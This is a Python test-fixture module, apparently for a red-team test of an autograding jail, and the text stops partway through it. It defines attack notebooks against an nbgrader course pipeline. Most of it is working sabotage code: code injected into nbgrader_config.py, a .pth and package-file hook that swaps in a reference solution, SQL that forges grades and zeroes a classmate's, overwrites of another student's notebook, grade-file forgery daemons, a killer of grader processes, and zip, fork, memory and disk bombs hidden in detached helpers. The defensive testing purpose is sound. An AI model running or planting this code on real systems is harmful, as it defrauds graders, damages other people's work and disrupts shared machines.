"""Attacks on the grading pipeline, as submissions of the sample assignment (adamlab.grading.confirm.samples),
for the red-team test.

Each :class:`Attack` is a notebook a determined student could hand in: the released notebook with the
``adam_step`` cell filled in (``solution``: the correct code, a deliberately wrong one, or ``None`` for the
release's stub) and ``extra_cells`` appended after it. ``expected`` is the confirmed score it must get out of 9
(first_step 1, trajectory 2, pure 1, hidden default 2, hidden settings 3): what its *own* ``adam_step`` earns
when run by the grader, never more because of the attack. ``victims`` are the honest classmates it tries to hurt:
each must still get 9. The attackers' names sort before ``honest_*``, so a grader that processes submissions in
name order grades the attackers first (their sabotage is then in place before their victims are graded).

How the attacks find their targets (they run in the student's kernel, whose cwd is the folder holding the
notebook, and again in the confirmation run, a child process that executes the notebook's code cells):
walking up from the cwd, ``HOME``, ``PWD``, the paths in ``sys.argv``, and from the cwd and command line of every
ancestor process (``/proc``), to a course folder (``nbgrader_config.py``, a gradebook, ``_grading/``, or nbgrader's
``source/`` and ``submitted/``: the grader's throwaway copies count too); ``/proc`` for the
grader's processes and temporary folders; ``site``/``sys.path``/the editable install's files for the venv and the
``adamlab`` package. They avoid the words the grader's static check rejects (``importlib``, ``__import__``,
``sys.modules``, ``__globals__``...): what is tested is the jail, not a regular expression. Cells of the attacks
below hold their toolkit twice, as code and as text (``_TOOLKIT``) that detached helpers run with ``python -c``;
no cell of an attacker who expects points calls ``exec`` or imports ``inspect``/``builtins``/``importlib``, which the
grader's second layer (its static check) refuses.

Expected scores. A stub attacker (``solution`` None) must get 0 whatever its attack does; an attacker with the
correct ``adam_step`` must get 9: its attack must gain it nothing and cost it nothing, which assumes the jail
enforces its limits by refusing (EAGAIN, ENOMEM, EFBIG, ENOSPC) or by killing the attacker's helpers, and the
confirmation run goes on. The two detection attackers (12a, 12b) get what their code does in the confirmation run,
which is not an IPython kernel; :data:`IF_RUNS_LOOK_ALIKE` gives their scores for a grader whose two runs cannot be
told apart.

SAFETY. These notebooks are destructive by design; they are meant to be graded only inside the jail, on a
temporary copy of the course (tests/grading/test_instructor_flow.py's ``copy_course``, which has no ``.git``).
Outside a jail they still limit the damage, because the test may run where the jail is broken:
- a course folder is never one with a ``.git`` entry (the real repository is never a target);
- processes are killed only if they, or an ancestor, work inside a course folder found that way, never pid 1,
  never the attacker itself, never another attacker's helper;
- other temporary folders are touched only if a process of that course works in them;
- every loop is bounded in time (at most 300 s, most far less) and every bomb in size: the fork bomb makes at most
  8191 processes, each gone after 15 s; the memory bomb stops while the machine still has 6 GiB available; the disk
  filler stops while its file system keeps 10 GiB free (and the machine 6 GiB of memory), and deletes its files
  after 20 s;
- what the package attack plants in the shared venv or in ``adamlab``'s own files (they belong to the real
  repository when the course copy shares its editable install) acts only on sources that carry that attacker's
  token: inert for everybody else. It is delimited by ``# >>> adamlab-attack-...`` / ``# <<< ...`` lines; see
  :func:`leftovers` and :func:`remove_planted`.
Every file and process an attack leaves carries :data:`MARKER` in its name, content or command line (detached
helpers: ``adamlab-attack-<student>-<role>`` in ``argv`` and ``ADAMLAB_ATTACK_MARKER`` in their environment): after
grading, no such process may be alive and no such file may exist outside the course copy.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import NamedTuple

from submissions import CORRECT, SIGNATURE, Submission, make_notebook

from adamlab.grading.confirm.samples import ASSIGNMENT

MARKER = "adamlab-attack-"  # in every file name, planted text and helper command line an attack leaves
POINTS = 9.0  # the sample assignment's autograded points


class Attack(NamedTuple):
    student: str
    kind: str  # what is attacked (one word or two): see ATTACKS
    description: str  # what it tries, and why it must get `expected`
    solution: str | None  # code of the adam_step cell (None: the release's stub)
    extra_cells: tuple[str, ...]  # code cells appended after the solution cell
    expected: float  # the confirmed score it must get (what its own adam_step earns)
    victims: tuple[str, ...]  # honest students it targets: each must still get full marks


# --- the attacker's toolkit: shared code, run in each attack cell with exec() and handed to detached helpers ---
_TOOLKIT = r"""
import glob, json, os, signal, sys, time

_ME = "@@STUDENT@@"
_MARK = "adamlab-attack-@@STUDENT@@"  # in every file, payload and helper command line this attack leaves


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def _cmdline(pid):
    return _read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode("utf-8", "replace")


def _cwd(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def _ppid(pid):
    for line in _read(f"/proc/{pid}/status").decode("utf-8", "replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _pids():
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []


def _is_course(d):
    # A course folder, or the grader's throwaway copy of one: nbgrader_config.py, a gradebook, nbgrader's
    # source/ + submitted/, or _grading/. SAFETY (test data): never a git checkout, so that the real repository is
    # never a target (the red-team test grades a copy of the course that has no .git), and never a temporary or
    # home folder as a whole.
    if d in ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/srv", os.environ.get("TMPDIR")):
        return False
    if os.path.exists(os.path.join(d, ".git")):
        return False
    has = lambda name: os.path.exists(os.path.join(d, name))  # noqa: E731
    return has("nbgrader_config.py") or has("gradebook.db") or has("_grading") or (has("source") and has("submitted"))


def _up(path):
    path = os.path.abspath(path)
    while True:
        yield path
        parent = os.path.dirname(path)
        if parent == path:
            return
        path = parent


def _starts():
    # Where to look from: what the spawner found, the cwd, HOME and friends, argv, then each ancestor's cwd and argv
    # (the grader's workers run in the course folder), then where courses usually live.
    yield from filter(None, os.environ.get("ADAMLAB_ATTACK_ROOTS", "").split(os.pathsep))
    try:
        yield os.getcwd()
    except OSError:
        pass
    for var in ("PWD", "HOME", "OLDPWD", "JPY_SESSION_NAME", "NBGRADER_COURSE_ROOT"):
        if os.environ.get(var):
            yield os.environ[var]
    yield from (a for a in sys.argv if a.startswith("/"))
    pid = os.getpid()
    for _ in range(10):
        pid = _ppid(pid)
        if pid <= 0:
            break
        yield _cwd(pid)
        yield from (a for a in _cmdline(pid).split() if a.startswith("/"))
    yield from glob.glob("/srv/nbgrader/*") + glob.glob("/home/*/*")


def _roots():
    found = []
    for start in _starts():
        for d in _up(start) if start else ():
            if d not in found and _is_course(d):
                found.append(d)
    return found


_ROOTS = _roots()


def _under(path, roots):
    return bool(path) and any(path == r or path.startswith(r + os.sep) for r in roots)


def _ours(pid, roots=_ROOTS):
    # Whether a process belongs to this course's grading: it or an ancestor works in a course folder.
    # SAFETY: never pid 1, nothing outside the course's grading (other graders, the test runner itself).
    for _ in range(10):
        if pid <= 1:
            return False
        if _under(_cwd(pid), roots):
            return True
        pid = _ppid(pid)
    return False


def _scratch(path):
    # Folders a file may be dropped into: the course, or a folder *inside* a temporary place (a run's own folder, a
    # jail's output bind). SAFETY: not the real HOME, not /tmp or /dev/shm themselves.
    path = os.path.abspath(path)
    temps = {"/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR") or "/tmp"}
    return _under(path, _ROOTS) or any(path.startswith(t.rstrip("/") + "/") for t in temps)


def _sandboxes(seen):
    # The grader's temporary folders (/tmp/adamlab-*: sandboxes, jails, kernels, throwaway courses; or any folder
    # holding cells.json), classified once a process works in one or names it: ours (this course's grading) or not.
    # `seen` caches the verdicts. Returns the folders of ours that hold the run's files (cells.json...).
    cands = set()
    for t in {"/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR") or "/tmp"}:
        cands.update(glob.glob(os.path.join(t, "adamlab-*")))
        cands.update(os.path.dirname(p) for p in glob.glob(os.path.join(t, "*", "cells.json")))
    new = [d for d in cands if d not in seen and os.path.isdir(d)]
    if new:
        procs = [(pid, _cwd(pid), _cmdline(pid)) for pid in _pids()]
        for d in new:
            if _under(d, _ROOTS):
                seen[d] = True
                continue
            users = [pid for pid, cwd, cmd in procs if _under(cwd, [d]) or d in cmd]
            if users:
                seen[d] = any(_ours(pid) for pid in users)
    for d in list(seen):
        if not os.path.isdir(d):
            del seen[d]
    found = []
    for d, ours in seen.items():
        if ours:
            found += {os.path.dirname(p) for p in glob.glob(os.path.join(d, "cells.json"))} | {
                os.path.dirname(p) for p in glob.glob(os.path.join(d, "*", "cells.json"))
            } or {d}
    return found


def _spawn(code, role):
    # Start `python -c code` fully detached (double fork + setsid: no parent, a session of its own), findable by
    # "adamlab-attack-<student>-<role>" in its command line and ADAMLAB_ATTACK_MARKER in its environment.
    tag = f"{_MARK}-{role}"
    try:
        pid = os.fork()
    except OSError:
        return
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        env = dict(os.environ, ADAMLAB_ATTACK_MARKER=tag, ADAMLAB_ATTACK_ROOTS=os.pathsep.join(_ROOTS))
        os.execve(sys.executable, [sys.executable, "-c", code, tag], env)
    finally:
        os._exit(0)


def _until_graded(step, linger=30.0, cap=300.0, every=0.5):
    # Call step() every `every` s until `linger` s after a course's grades.csv was (re)written; `cap` s at most.
    start, done = time.time(), None
    while time.time() - start < cap:
        try:
            step()
        except Exception:
            pass
        if done is None:
            for r in _ROOTS:
                try:
                    if os.path.getmtime(os.path.join(r, "_grading", "grades.csv")) > start:
                        done = time.time()
                except OSError:
                    pass
        elif time.time() - done > linger:
            return
        time.sleep(every)
"""

_HEADER = (
    "# The attacker's toolkit (finds the course, the grader's processes; starts detached helpers), as code, and as\n"
    "# text for the detached helpers (no exec(): the grader's static check refuses it in a student's cell).\n"
)


def _cell(student: str, body: str, **snippets: str) -> str:
    """An attack cell: the toolkit, then ``body``, where ``@@NAME@@`` becomes snippet ``name`` as code and
    ``@@NAME_TEXT@@`` the same snippet as a string literal; ``@@STUDENT@@`` becomes the attacker's name and
    ``@@ASSIGNMENT@@`` the sample assignment's."""
    toolkit = _TOOLKIT.replace("@@STUDENT@@", student)
    for name, code in snippets.items():
        code = code.replace("@@STUDENT@@", student)
        body = body.replace(f"@@{name.upper()}_TEXT@@", repr(code)).replace(f"@@{name.upper()}@@", code)
    cell = _HEADER + f"_TOOLKIT = {toolkit!r}\n" + toolkit + body
    return cell.replace("@@STUDENT@@", student).replace("@@ASSIGNMENT@@", ASSIGNMENT)


# --- 1. nbgrader_config.py: code the grader itself runs, outside any jail ------------------------------------------
_CONFIG = r'''
# ATTACK: append code to the course's nbgrader_config.py, which the grader executes (in its own processes, outside
# any jail) each time it loads its configuration, up to the export of grades.csv. The code (a) sets this student's
# manual_score to the maximum in the gradebook (nbgrader prefers manual_score to auto_score, and the grader only
# writes auto_score), (b) patches nbgrader's CSV exporter to rewrite this student's row. A detached helper removes
# the code again once grades.csv is written, to leave no trace.
_PAYLOAD = r"""
import csv, os, sqlite3
_student = "@@STUDENT@@"
_here = os.path.dirname(os.path.abspath(__file__))
_dbs = {os.path.join(_here, "_grading", "gradebook.db")}
try:
    _dbs.add(str(c.CourseDirectory.db_url).split("sqlite:///", 1)[1])
except Exception:
    pass
for _db in _dbs:
    try:
        _con = sqlite3.connect(_db, timeout=5)
        _con.execute(
            "UPDATE grade SET needs_manual_grade = 0, manual_score = "
            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN "
            "(SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
            "WHERE a.student_id = ?)",
            (_student,),
        )
        _con.commit()
        _con.close()
    except Exception:
        pass
try:
    from nbgrader.plugins import export as _export

    _orig = _export.CsvExportPlugin.export
    if not getattr(_orig, "_attack", False):
        def _forged(self, gradebook):
            _orig(self, gradebook)
            dest = self.to or "grades.csv"
            with open(dest) as f:
                rows = list(csv.DictReader(f))
            for row in rows:
                if row["student_id"] == _student:
                    row["raw_score"] = row["score"] = row["max_score"]
            with open(dest, "w", newline="") as f:
                w = csv.DictWriter(f, fieldnames=list(rows[0]))
                w.writeheader()
                w.writerows(rows)
        _forged._attack = True
        _export.CsvExportPlugin.export = _forged
except Exception:
    pass
"""
_BLOCK = f"\n# >>> {_MARK}\ntry:\n    exec({_PAYLOAD!r}, globals())\nexcept Exception:\n    pass\n# <<< {_MARK}\n"
for _root in _ROOTS:
    _cfg = os.path.join(_root, "nbgrader_config.py")
    try:
        if _MARK.encode() not in _read(_cfg):
            with open(_cfg, "a") as f:
                f.write(_BLOCK)
    except OSError:
        pass

# Covering the tracks: once grades.csv is written, cut the block out of nbgrader_config.py again.
_spawn(_TOOLKIT + r"""
_until_graded(lambda: None, linger=2.0)
for _root in _ROOTS:
    _cfg = os.path.join(_root, "nbgrader_config.py")
    try:
        text = _read(_cfg).decode()
        head, sep, rest = text.partition("\n# >>> " + _MARK + "\n")
        if sep:
            with open(_cfg, "w") as f:
                f.write(head + rest.partition("# <<< " + _MARK + "\n")[2])
    except (OSError, UnicodeDecodeError):
        pass
""", "config-cleanup")
'''

# --- 2. the venv's site-packages and adamlab's own files ------------------------------------------------------------
_PACKAGE = r'''
# ATTACK: plant code that the grader's later Python processes run: (a) a .pth file in the venv's site-packages
# (python -I still runs .pth files), (b) the same code in adamlab's own files: the confirmation run's server
# (grading/confirm/jail_server.py, copied into each jail; _child.py in older graders) before its
# `if __name__ == "__main__":`, and adamlab/__init__.py.
# The planted code wraps compile(): a cell whose text holds this student's token
# adamlab-attack-@@STUDENT@@-swap-in-the-reference
# gets a working adam_step appended, so the confirmation run checks code this student never handed in (and the
# notebook itself holds nothing the static check could see). It changes nothing for anybody else (no token).
import re
import site

_HOOK = r"""
import builtins as _b

_ADAM = "\n".join([
    "def adam_step(theta, grad, m, v, t, *, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):",
    "    import numpy as np",
    "    m = beta1 * m + (1 - beta1) * grad",
    "    v = beta2 * v + (1 - beta2) * grad**2",
    "    return theta - lr * (m / (1 - beta1**t)) / (np.sqrt(v / (1 - beta2**t)) + eps), m, v",
    "",
])
if not getattr(_b, "_adamlab_attack_hook", False):
    _compile = _b.compile

    def _hooked(source, filename="<string>", mode="exec", *args, **kwargs):
        if isinstance(source, str) and mode == "exec" and "adamlab-attack-@@STUDENT@@-swap-in-the-reference" in source:
            source += "\n" + _ADAM
        return _compile(source, filename, mode, *args, **kwargs)

    _b.compile = _hooked
    _b._adamlab_attack_hook = True
"""

# (a) site-packages: from site, sys.path and sys.prefix.
_site = set()
try:
    _site.update(site.getsitepackages())
except Exception:
    pass
_site.update(p for p in sys.path if p.endswith("site-packages"))
_site.add(os.path.join(sys.prefix, "lib", "python%d.%d" % sys.version_info[:2], "site-packages"))
for _d in sorted(_site):
    if os.path.isdir(_d):
        try:
            with open(os.path.join(_d, _MARK + ".pth"), "w") as f:
                f.write("import os; exec(" + repr(_HOOK) + ", {})\n")
        except OSError:
            pass

# (b) adamlab's folder: from sys.path, from the editable install's .pth and finder files, and the course's src/.
_pkgs = set()
for _p in sys.path + [os.path.join(r, "src") for r in _ROOTS]:
    if _p and os.path.isfile(os.path.join(_p, "adamlab", "__init__.py")):
        _pkgs.add(os.path.join(_p, "adamlab"))
for _d in _site:
    for _f in glob.glob(os.path.join(_d, "*.pth")):
        for _line in _read(_f).decode("utf-8", "replace").splitlines():
            if _line.startswith("/") and os.path.isfile(os.path.join(_line.strip(), "adamlab", "__init__.py")):
                _pkgs.add(os.path.join(_line.strip(), "adamlab"))
    for _f in glob.glob(os.path.join(_d, "__editable__*adamlab*finder.py")):
        for _path in re.findall(r"""['"]adamlab['"]\s*:\s*['"]([^'"]+)['"]""", _read(_f).decode("utf-8", "replace")):
            _pkgs.add(_path)

_BLOCK = f"# >>> {_MARK}\ntry:\n    exec({_HOOK!r}, {{}})\nexcept Exception:\n    pass\n# <<< {_MARK}\n"
for _pkg in sorted(p for p in _pkgs if os.path.isfile(os.path.join(p, "__init__.py"))):
    for _name in ("grading/confirm/jail_server.py", "grading/confirm/_child.py", "__init__.py"):
        _f = os.path.join(_pkg, _name)
        try:
            text = _read(_f, 1 << 24).decode()
            if _MARK in text or not text:
                continue
            main = '\nif __name__ == "__main__":'
            if main in text:  # before the entry point: the hook is in place when the cells are compiled
                text = text.replace(main, "\n" + _BLOCK + main, 1)
            else:
                text = text + "\n" + _BLOCK
            with open(_f, "w") as f:
                f.write(text)
        except (OSError, UnicodeDecodeError):
            pass
'''

# --- 3. the gradebook, with SQL -----------------------------------------------------------------------------------
_GRADEBOOK = r'''
# ATTACK: write the gradebook directly (sqlite): manual_score = max_score on this student's grades (nbgrader prefers
# manual_score, which the grader never resets) and manual_score = 0 on honest_1's. The rows appear only when each
# submission is autograded, so a detached helper repeats the UPDATEs until grades.csv has been written.
_spawn(_TOOLKIT + r"""
import sqlite3

_WHERE = (
    "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
    "ON n.assignment_id = a.id WHERE a.student_id = ?)"
)
_MAX = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"


def _step():
    dbs = set()
    for r in _ROOTS:
        dbs.update(glob.glob(os.path.join(r, "_grading", "*.db")) + glob.glob(os.path.join(r, "*.db")))
    for db in dbs:
        try:
            con = sqlite3.connect(db, timeout=0.5)
            con.execute("UPDATE grade SET needs_manual_grade = 0, manual_score = " + _MAX + " " + _WHERE, (_ME,))
            con.execute("UPDATE grade SET needs_manual_grade = 0, manual_score = 0 " + _WHERE, ("honest_1",))
            con.commit()
            con.close()
        except Exception:
            pass


_until_graded(_step, linger=20.0, every=0.3)
""", "gradebook")
'''

# --- 4. a classmate's submitted notebook ----------------------------------------------------------------------------
_CLASSMATE = r'''
# ATTACK: overwrite honest_2's submitted (and autograded) notebook with the blank release, so that honest_2 is graded
# on the stub: now, and again and again from a detached helper (in case the grader copies submissions first).
_spawn(_TOOLKIT + r"""
def _blank():
    for r in _ROOTS:
        for rel in ("exercises", os.path.join("_grading", "release")):
            for p in glob.glob(os.path.join(r, rel, "@@ASSIGNMENT@@", "*.ipynb")):
                text = _read(p, 1 << 24)
                if text:
                    return text
    # no release in sight: my own notebook, with my adam_step replaced by the stub
    for p in glob.glob(os.path.join(os.getcwd(), "*.ipynb")):
        nb = json.loads(_read(p, 1 << 24))
        for c in nb["cells"]:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "adam_step":
                c["source"] = "def adam_step(theta, grad, m, v, t, **kwargs):\n    raise NotImplementedError()\n"
        return json.dumps(nb).encode()
    return b""


_STUB = _blank()


def _step():
    targets = set()
    for r in _ROOTS:
        for kind in ("submitted", "autograded"):
            targets.update(glob.glob(os.path.join(r, "_grading", kind, "honest_2", "*", "*.ipynb")))
            targets.update(glob.glob(os.path.join(r, kind, "honest_2", "*", "*.ipynb")))
    for d in _up(os.getcwd()):  # the cwd is .../submitted/<me>/<assignment>: the classmates are siblings
        targets.update(glob.glob(os.path.join(d, "honest_2", "*", "*.ipynb")))
    for t in targets:
        if _STUB and _read(t, 1 << 24) != _STUB:
            with open(t, "wb") as f:
                f.write(_STUB)


_step()
_until_graded(_step, linger=5.0, every=0.5)
""", "classmate")
'''

# --- 5. other workers' temporary files -----------------------------------------------------------------------------
_TMPFILES = r'''
# ATTACK: a detached helper watches the grader's temporary folders (/tmp/adamlab-sandbox-*, any folder holding
# cells.json) of this course's other confirmation runs and breaks them: cells.json replaced by a wrong adam_step,
# request.npz corrupted, and result.npz replaced by a forged "every check failed" (after the run writes it).
# Its own confirmation run (cells holding this attacker's mark) is left alone.
_spawn(_TOOLKIT + r"""
import numpy as np

_WRONG = ["def adam_step(theta, grad, m, v, t, **kwargs):\n    return theta.copy(), m.copy(), v.copy()\n# sabotaged"]
_seen, _done, _items = {}, set(), {}


def _forge(path, n):
    tree = {"items": [{"error": "failed", "message": "wrong"} for _ in range(n)]}
    tmp = path + ".tmp.npz"
    np.savez(tmp, __tree__=np.array(json.dumps(tree)))
    os.replace(tmp, path)


def _step():
    for d in _sandboxes(_seen):
        cells = os.path.join(d, "cells.json")
        if _MARK.encode() in _read(cells, 1 << 24):
            _seen[d] = False  # my own confirmation run
            continue
        if (d, "cells") not in _done and os.path.exists(cells):
            with open(cells, "w") as f:
                json.dump(_WRONG, f)
            _done.add((d, "cells"))
        request = os.path.join(d, "request.npz")
        if (d, "request") not in _done and os.path.exists(request):
            try:
                n = len(json.loads(str(np.load(request)["__tree__"]))["items"])
            except Exception:
                n = 5
            _done.add((d, "request"))
            with open(request, "wb") as f:
                f.write(b"sabotaged")
            _items[d] = n
        result = os.path.join(d, "result.npz")
        if (d, "result") not in _done and os.path.exists(result):
            _forge(result, _items.get(d, 5))
            _done.add((d, "result"))


_until_graded(_step, linger=5.0, every=0.02)
""", "tmpfiles")
'''

# --- 6. the instructor's source notebook ---------------------------------------------------------------------------
_SOURCE_NOTEBOOK = r"""
# ATTACK (1/2): blind the grader's confirmation: set `grade: false` on every test cell of the instructor's source
# notebook in solutions/@@ASSIGNMENT@@/ (or source/@@ASSIGNMENT@@/ in a course copy), which the grader reads to
# know what to confirm. (The submitted notebook's own "grade: false" would be ignored: nbgrader restores locked cells.)
for _root in _ROOTS:
    for _p in glob.glob(os.path.join(_root, "s*", "@@ASSIGNMENT@@", "*.ipynb")):  # solutions/, or nbgrader's source/
        try:
            _nb = json.loads(_read(_p, 1 << 24))
            for _c in _nb["cells"]:
                _meta = _c.get("metadata", {}).get("nbgrader", {})
                if _meta.get("grade") and not _meta.get("solution"):
                    _meta["grade"] = False
            with open(_p, "w") as f:
                json.dump(_nb, f, indent=1)
        except (OSError, ValueError, KeyError):
            pass

# ATTACK (2/2): then win the kernel: every later cell that calls check() becomes `pass` (a test cell that raises
# nothing earns its points in nbgrader's kernel run).
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"] if "check(" in "".join(lines) else lines)
except NameError:  # not in IPython (the confirmation run)
    pass
"""

# --- 7. a daemon that outlives grading ------------------------------------------------------------------------------
_DAEMON = r'''
# ATTACK: a detached daemon (double fork + setsid, "adamlab-attack-@@STUDENT@@-daemon" in its command line) that
# outlives the kernel and the grading: whenever _grading/grades.csv exists, it gives this student full marks in it;
# it exits 60 s after the file was (re)written (300 s at most).
_spawn(_TOOLKIT + r"""
import csv


def _step():
    for r in _ROOTS:
        path = os.path.join(r, "_grading", "grades.csv")
        if not os.path.exists(path):
            continue
        with open(path, newline="") as f:
            rows = list(csv.DictReader(f))
        mine = [row for row in rows if row.get("student_id") == _ME and row.get("score") != row.get("max_score")]
        if not mine:
            continue
        for row in mine:
            row["raw_score"] = row["score"] = row["max_score"]
        with open(path + ".tmp", "w", newline="") as f:
            w = csv.DictWriter(f, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows(rows)
        os.replace(path + ".tmp", path)


_until_graded(_step, linger=60.0, every=0.2)
""", "daemon")
'''

# --- 8. killing the grader -----------------------------------------------------------------------------------------
_SWEEP = r"""
def _sweep():
    me = os.getpid()
    for pid in _pids():
        cmd = _cmdline(pid)
        if pid in (1, me) or "adamlab-attack-" in cmd or not any(w in cmd for w in ("nbgrader", "adamlab", "python")):
            continue
        if _ours(pid):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    parent = os.getppid()
    if parent > 1 and (_ours(parent) or not _ROOTS):  # the grader that started me (in a jail: whoever it is)
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
"""
_KILL = r'''
# ATTACK: kill the grader: every process of this course's grading whose command line mentions nbgrader, adamlab or
# python (other students' kernels and runs, the workers, the grader's main process), then the parent that started
# this code; again and again for 30 s from a detached helper. (os.kill(-1, 9) would do it in one call; it is kept
# out: outside a jail it would kill everything the user owns. SAFETY: never pid 1, never itself, never an attack's
# helper, never a process outside this course's grading.)
@@SWEEP@@
_spawn(_TOOLKIT + @@SWEEP_TEXT@@ + r"""
_end = time.time() + 30
while time.time() < _end:
    _sweep()
    time.sleep(0.25)
""", "killer")
_sweep()
'''

# --- 9. a zip bomb where the grader expects the result -------------------------------------------------------------
_BOMB = r"""
import atexit, struct, zlib
import numpy as np


def _zip(members):
    # members: (name, raw bytes or None, deflated bytes, crc, size); written by hand, as zipfile cannot take a
    # pre-deflated stream.
    out, central = bytearray(), bytearray()
    for name, method, data, crc, size in members:
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 33, crc, len(data), size, len(name), 0)
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 33, crc, len(data), size, len(name),
            0, 0, 0, 0, 0, len(out),
        ) + name
        out += head + name + data
    n = len(members)
    return bytes(out + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(out), 0))


def _bomb(gib=1):
    count = (gib << 30) // 8
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % count
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")
    zeros = bytes(1 << 20)
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = z.compress(head) + z.flush(zlib.Z_FULL_FLUSH)
    block = z.compress(zeros) + z.flush(zlib.Z_FULL_FLUSH)  # after a full flush, every MiB of zeros deflates alike
    data = first + block * (gib << 10) + z.flush()
    crc = zlib.crc32(head)
    for _ in range(gib << 10):
        crc = zlib.crc32(zeros, crc)
    tree = {"items": [{"error": None, "outputs": {"theta": {"__array__": "a0"}}} for _ in range(5)]}
    import io

    buf = io.BytesIO()
    np.save(buf, np.array(json.dumps(tree)))
    raw = buf.getvalue()
    return _zip([
        (b"__tree__.npy", 0, raw, zlib.crc32(raw), len(raw)),
        (b"a0.npy", 8, data, crc, len(head) + (gib << 30)),
    ])


_BOMB_BYTES = _bomb()


def _plant(folder):
    path = os.path.join(folder, "result.npz")
    if os.path.isdir(folder) and _scratch(folder) and _read(path, 64) != _BOMB_BYTES[:64]:
        try:
            with open(path + ".tmp", "wb") as f:
                f.write(_BOMB_BYTES)
            os.replace(path + ".tmp", path)
        except OSError:
            pass


def _mounts():
    # A jail's writable binds (where its output may be expected): rw mounts in /proc/self/mountinfo.
    for line in _read("/proc/self/mountinfo").decode("utf-8", "replace").splitlines():
        parts = line.split()
        if len(parts) > 5 and "rw" in parts[5].split(",") and parts[4] not in ("/", "/proc", "/sys", "/dev"):
            yield parts[4]
"""
_ZIPBOMB = r'''
# ATTACK: a zip bomb in the confirmation run's result format (an .npz whose "__tree__" lists the probes' outputs):
# about 1 MiB on disk, one member that inflates to 1 GiB when the grader loads it. Planted as result.npz in the cwd,
# HOME, the run's folders (argv), writable mounts of a jail, at exit (after the run wrote its own result), and, from a
# detached helper, in this course's other confirmation runs as soon as they write theirs.
@@BOMB@@_here = [os.getcwd(), os.environ.get("HOME", ""), *sys.argv[1:], *_mounts()]
for _folder in _here:
    _plant(_folder)
atexit.register(lambda: [_plant(folder) for folder in _here])
_spawn(_TOOLKIT + @@BOMB_TEXT@@ + r"""
_seen = {}


def _step():
    for d in _sandboxes(_seen):
        if _MARK.encode() not in _read(os.path.join(d, "cells.json"), 1 << 24):
            if os.path.exists(os.path.join(d, "result.npz")):
                _plant(d)


_until_graded(_step, linger=5.0, every=0.02)
""", "zipbomb")
'''

# --- 10. fork, memory and disk bombs (in detached helpers: the student's own cells go on at once) -------------------
_FORK_BOMB = r'''
# ATTACK: a fork bomb, in a detached helper: a binary tree of processes 12 levels deep (at most 8191 of them, each
# asleep until 15 s after the start, then gone). A jail must stop it with its process limit (fork then fails with
# EAGAIN and the tree stops growing) and kill what is left when the run ends; this student's own cells go on at once.
_spawn(r"""
import os, time

_END = time.time() + 15


def _node(depth):
    if depth > 0:
        for _ in range(2):
            try:
                if os.fork() == 0:
                    _node(depth - 1)
            except OSError:  # the process limit
                break
    time.sleep(max(0.0, _END - time.time()))
    os._exit(0)


try:
    os.nice(19)
except OSError:
    pass
_node(12)
""", "forkbomb")
'''

_MEMORY_BOMB = r'''
# ATTACK: a memory bomb, in a detached helper: 4 processes each fill 5 GiB with np.ones in 256 MiB steps (20 GiB in
# all: no single process goes past a per-process limit of 6 GiB, as rlimits set in a process do not bound its
# children's total) and hold it for 12 s. SAFETY: each stops while the machine still has 6 GiB available.
_spawn(r"""
import os, time
import numpy as np

_END = time.time() + 12


def _available():
    for line in open("/proc/meminfo"):
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    return 0


try:
    os.nice(19)
except OSError:
    pass
for _ in range(3):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
held = []
try:
    while len(held) < 20 and time.time() < _END and _available() > 6 << 30:
        held.append(np.ones((256 << 20) // 8))
except MemoryError:  # the jail's memory limit
    pass
time.sleep(max(0.0, _END - time.time()))
os._exit(0)
""", "memorybomb")
'''

_DISK_FILLER = r'''
# ATTACK: a disk filler, in a detached helper: 5 GiB of zeros into the cwd and 5 GiB into the temporary folder
# (a jail's /tmp is often a tmpfs: memory), 64 MiB at a time, SIGXFSZ ignored so that a file-size limit only fails the
# write. SAFETY: it stops while the file system keeps 10 GiB free and the machine 6 GiB of memory, and deletes its
# files after 20 s (a real attacker would leave them).
_spawn(r"""
import os, signal, sys, tempfile, time

_END = time.time() + 20
_MARK = sys.argv[1]
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try:
    os.nice(19)
except OSError:
    pass


def _available():
    for line in open("/proc/meminfo"):
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    return 0


chunk, written = bytes(64 << 20), []
for folder in (os.getcwd(), tempfile.gettempdir()):
    path = os.path.join(folder, _MARK + ".bin")
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    except OSError:
        continue
